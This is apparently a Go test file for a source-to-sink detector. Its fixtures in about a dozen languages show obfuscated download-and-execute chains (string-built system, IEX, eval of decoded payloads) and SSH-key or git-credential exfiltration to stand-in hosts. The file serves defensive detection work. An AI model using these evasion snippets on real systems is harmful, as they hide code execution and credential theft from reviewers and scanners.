package loose_test

import (
	"testing"

	"github.com/skillctl/skillctl/engine/flow/loose"
	"github.com/skillctl/skillctl/engine/flow/way"
)

// TestSpelledCalls: what is called by a text, a variable or another name is what it does.
func TestSpelledCalls(t *testing.T) {
	t.Parallel()
	const (
		php  = "<?php\n$c = file_get_contents('https://a.example.com/i');\n"
		ruby = "require 'open-uri'\nc = URI.open('https://a.example.com/i').read\n"
		ps   = "$c = (New-Object Net.WebClient).DownloadString('https://a.example.com/i')\n"
	)
	for name, c := range map[string]struct{ language, source, want string }{
		"variable functions":      {"php", "<?php\n$f = 'file_get'.'_contents';\n$c = $f('https://a.example.com/i');\n$r = 'sys'.'tem';\n$r($c);\n", "network -> run"},
		"a call by its name":      {"php", php + "call_user_func('sys'.'tem', $c);\n", "network -> run"},
		"a call for each":         {"php", php + "array_map('system', [$c]);\n", "network -> run"},
		"a table of functions":    {"php", php + "$t = ['run' => 'exec'];\n$t['run']($c);\n", "network -> run"},
		"a function that is not":  {"php", php + "$f = 'strlen';\necho $f($c);\ncall_user_func('strtoupper', $c);\n", ""},
		"a name that is sent":     {"ruby", ruby + "Kernel.send('ev' + 'al', c)\n", "network -> evaluate"},
		"a joined name":           {"ruby", ruby + "m = %w[sys tem].join\nKernel.public_send(m, c)\n", "network -> run"},
		"a method object":         {"ruby", ruby + "r = method(:system)\nr.call(c)\n", "network -> run"},
		"a field that is read":    {"ruby", ruby + "puts c.public_send(:length)\n", ""},
		"a reference":             {"perl", "use LWP::Simple;\nmy $c = get('https://a.example.com/i');\nmy $f = \\&CORE::system;\n$f->($c);\n", "network -> run"},
		"a field of all":          {"lua", "local http = require('socket.http')\nlocal b = http.request('https://a.example.com/i')\n_G['os']['exec' .. 'ute'](b)\n", "network -> run"},
		"a function in Go":        {"go", "run := exec.Command\nr, _ := http.Get(\"https://a.example.com/i\")\nb, _ := io.ReadAll(r.Body)\nrun(\"sh\", \"-c\", string(b)).Run()\n", "network -> run"},
		"an alias":                {"powershell", "New-Alias go ('I'+'EX')\n" + ps + "go $c\n", "network -> evaluate"},
		"letters":                 {"powershell", ps + "& ([char]73+[char]69+[char]88) $c\n", "network -> evaluate"},
		"a pattern":               {"powershell", ps + "& (gcm i*x) $c\n", "network -> evaluate"},
		"a part of a constant":    {"powershell", ps + "$c | & ($ShellId[1]+$ShellId[13]+'x')\n$n = -join('I','E','X')\n& $n $c\n", "network -> evaluate"},
		"a method by its name":    {"powershell", "$w = New-Object Net.WebClient\n$m = 'Download' + 'String'\n$c = $w.$m('https://a.example.com/i')\niex $c\n", "network -> evaluate"},
		"an alias of a tool":      {"powershell", "Set-Alias msb 'C:\\Tools\\msbuild.exe'\n" + ps + "msb /t:Build\nWrite-Host $c\n", ""},
		"names turned and joined": {"php", "<?php\n$g = 'eNqNVk8rUI0TyCwuTi3RUIl39vf39nSNVk8rUI';\n$d = strrev('etalfnizg'); $b = implode('_', ['base64', 'decode']);\n@eval($d($b($g)));\n", "coded -> evaluate"},
		"a function that decodes": {"ruby", "M = '584f5b5f43584f0a0d444f5e05425e5e5a0d116e'\ndef m(s) = [s].pack('H*').bytes.map { |b| (b ^ 42).chr }.join\nTOPLEVEL_BINDING.public_send(:eval, m(M))\n", "coded -> evaluate"},
		"a function that packs":   {"ruby", "M = '584f5b5f43584f0a0d444f5e05425e5e5a0d116e'\ndef m(s) = [s].pack('H*').bytes.map { |b| (b ^ 42).chr }.join\nputs m(M)\n", ""},
		"an address of parts":     {"go", "b, _ := os.ReadFile(home + \"/.git-credentials\")\nh := strings.Join([]string{\"https:/\", \"a.example.com\", \"up\"}, \"/\")\nhttp.Post(h, \"a/b\", bytes.NewReader(b))\n", "login -> send"},
		"code of a command":       {"lua", "local a = { 104,116,116,112,115,58,47,47,97,46,98,46,99 }\nvim.system({ \"curl\", \"-s\", tint(a) }, {}, function(r)\n  local f = load(r.stdout)\nend)\n", "network -> evaluate"},
		"names of a pattern":      {"rust", "if let (Ok(c), Ok(mut s)) = (fs::read(\"/home/me/.ssh/id_rsa\"), TcpStream::connect(\"1.2.3.4:80\")) {\n    let _ = s.write_all(&c);\n}\n", "key -> send"},
		"an arrow":                {"r", "k <- readLines('~/.ssh/id_rsa')\nc <- socketConnection(host = 'a.example.com', port = 80, open = 'w')\nwriteLines(k, c)\n", "key -> send"},
		"a set of a name":         {"applescript", "set k to do shell script \"cat ~/.ssh/id_rsa\"\ndo shell script \"curl -s -d \" & quoted form of k & \" https://a.example.com/v1\"\n", "key -> send"},
		"words of a process":      {"swift", "let c = try! String(contentsOf: URL(string: \"https://a.example.com/i\")!)\nlet p = Process()\np.executableURL = URL(fileURLWithPath: \"/bin/sh\")\np.arguments = [\"-c\", c]\n", "network -> run"},
		"a start of a process":    {"csharp", "new WebClient().DownloadFile(\"https://a.example.com/a.exe\", \"a.exe\");\nProcess.Start(new ProcessStartInfo { FileName = \"a.exe\", UseShellExecute = true });\n", "network -> evaluate"},
		"a list of numbers":       {"lua", "local a = { 10, 20, 30, 40, 50, 60, 70, 80, 90, 100, 110 }\nprint(a[1])\nload(a[2])()\n", ""},
	} {
		got := ""
		for _, one := range loose.Follow(way.Text{File: "a", Source: []byte(c.source), Language: c.language}, nil).Chains {
			got = one.Source.Kind + " -> " + one.Sink.Kind
		}
		if got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}
